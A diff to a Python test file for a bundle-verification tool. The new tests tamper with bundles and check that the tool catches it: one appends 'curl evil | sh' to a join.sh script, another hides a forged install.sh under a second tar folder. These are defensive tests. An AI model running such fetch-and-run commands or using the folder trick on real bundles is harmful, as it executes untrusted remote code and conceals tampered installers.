@@ -1,6 +1,7 @@
 """Ways of carrying: volumes, the layout `split`, deltas, and bundles without secrets."""
 
 import hashlib
+import io
 import json
 import re
 import shutil
@@ -323,6 +324,7 @@ def test_the_base_is_given_in_many_forms(site: SmallSite, tmp_path: Path, form: 
         ("foreign", "it is of stranger"),
         ("public", "it holds no bundle"),
         ("public/small-one.public.tar.gz", "made by --public-only"),
+        ("one=dist/small-two.tar.gz", "it is of two"),
     ],
 )
 def test_what_is_no_base_is_refused(site: SmallSite, given: str, expected: str) -> None:
@@ -395,26 +397,99 @@ def test_the_whole_bundles_say_the_same_of_every_public_file(built: SmallSite) -
     assert "rootfs/etc/cni/net.d/10-bridge.conflist" in left_out  # a pod subnet: by the state
 
 
+def faults_beside(whole: Path, public: Path) -> list[str]:
+    """What `verify WHOLE --public PUBLIC` finds by comparing."""
+    verdicts = compare(whole, tuple(verify(whole)), tuple(verify(public)))
+    return [fault for verdict in verdicts for fault in verdict.faults]
+
+
+def sign_off(directory: Path) -> None:
+    """SHA256SUMS anew, as somebody would write it who changed files."""
+    paths = sorted(path for path in directory.iterdir() if path.name != "SHA256SUMS")
+    lines = (f"{hashlib.sha256(path.read_bytes()).hexdigest()}  {path.name}\n" for path in paths)
+    (directory / "SHA256SUMS").write_text("".join(lines))
+
+
 def test_what_somebody_slipped_into_the_whole_bundles_is_found(site: SmallSite) -> None:
-    whole, public = (list(verify(site.directory / name)) for name in ("changed-whole", "public"))
-    faults = [fault for verdict in compare(whole, public) for fault in verdict.faults]
-    assert faults == [
+    assert faults_beside(site.directory / "changed-whole", site.directory / "public") == [
         f"small-one.tar.gz: rootfs/opt/k8s/bin/{name}: differs from the one in the bundle without secrets"
         for name in ("etcd", "etcdctl", "etcdutl")
     ]
     done = run("verify", site.directory / "changed-whole", "--public", site.directory / "public")
     assert done.returncode == 6
-    assert next(compare([], public)).faults == (
-        "small-one.tar.gz: there is no such bundle, or it has faults",
-    )
 
 
-def test_a_file_more_or_less_is_found_too() -> None:
+def test_nothing_of_a_directory_is_left_uncompared(site: SmallSite) -> None:
+    whole, public = site.directory / "volumes", site.directory / "public"
+    assert faults_beside(whole, public) == []
+    with (whole / "join.sh").open("a") as script:
+        script.write("curl evil | sh\n")
+    shutil.copy(site.directory / "dist/small-one.tar.gz", whole / "small-four.tar.gz")
+    (whole / "extra.sh").write_text("evil")
+    sign_off(whole)
+    assert sorted(faults_beside(whole, public)) == [
+        f"{name}: is nothing that the second person made"
+        for name in ("extra.sh", "join.sh", "small-four.tar.gz")
+    ]
+    done = run("verify", whole, "--public", public)
+    assert "RUNBOOK.md: nobody can make it without the keys" in done.stderr
+
+
+def test_bundles_are_not_compared_with_themselves(built: SmallSite) -> None:
+    dist = built.directory / "dist"
+    assert faults_beside(dist, dist) == [
+        f"small-{node}.tar.gz: is nothing that the second person made"
+        for node in ("one", "three", "two")
+    ]
+    assert compare(dist, (), tuple(verify(built.directory / "public")))
+    (missing, *_) = compare(dist, (), tuple(verify(built.directory / "public")))
+    assert missing.faults == ("small-one.tar.gz: there is no such bundle, or it has faults",)
+
+
+def test_a_second_folder_in_a_bundle_does_not_hide_the_first(site: SmallSite) -> None:
+    """tar unpacks both; whoever drops folders' names would see the honest file only."""
+    path = site.directory / "dist/small-one.tar.gz"
+    with tarfile.open(path) as old:
+        members = [(m, old.extractfile(m)) for m in old.getmembers()]
+        with tarfile.open(path.with_name("new.tar.gz"), "w:gz") as new:
+            for member, content in members:
+                if member.name == "small-one/install.sh":
+                    evil = tarfile.TarInfo(member.name)
+                    evil.size = 4
+                    new.addfile(evil, io.BytesIO(b"evil"))
+                    member.name = "x/install.sh"
+                new.addfile(member, content)
+    path.with_name("new.tar.gz").replace(path)
+    sign_off(path.parent)
+    done = run("verify", path.parent, "--public", site.directory / "public")
+    assert done.returncode == 6
+    assert "'x/install.sh' is beside 'small-one', not below" in done.stderr
+
+
+@pytest.mark.parametrize("name", ["join.sh", "extra.deb", "small-zzz.tar", "folder/"])
+def test_what_lies_beside_and_is_in_no_list_is_a_fault(site: SmallSite, name: str) -> None:
+    stranger = site.directory / "dist" / name
+    if name.endswith("/"):
+        stranger.mkdir()
+    else:
+        stranger.write_text("x")
+    assert faults_of(site.directory / "dist") == [f"{stranger.name}: not in SHA256SUMS"]
+
+
+@pytest.mark.parametrize("text", ["", "garbage\n", f"{64 * 'a'}  ../x\n", f"{64 * 'a'} x\n"])
+def test_what_is_no_list_of_digests_is_refused(tmp_path: Path, text: str) -> None:
+    (tmp_path / "SHA256SUMS").write_text(text)
+    with pytest.raises(OutputError, match="not a list that `bundler build` wrote"):
+        faults_of(tmp_path)
+
+
+def test_a_file_more_or_less_is_found_too(tmp_path: Path) -> None:
     from bundler.verify import Verdict
 
     public = parse_manifest(b"# from-state secret\nab 0644 1 x\nab 0644 1 y\n", "public")
     whole = parse_manifest(b"ab 0644 1 x\nab 0644 1 secret\nab 0755 9 evil\n", "whole")
     (verdict,) = compare(
+        tmp_path,
         [Verdict(name="a.tar.gz", manifest=whole)],
         [Verdict(name="a.public.tar.gz", manifest=public)],
     )
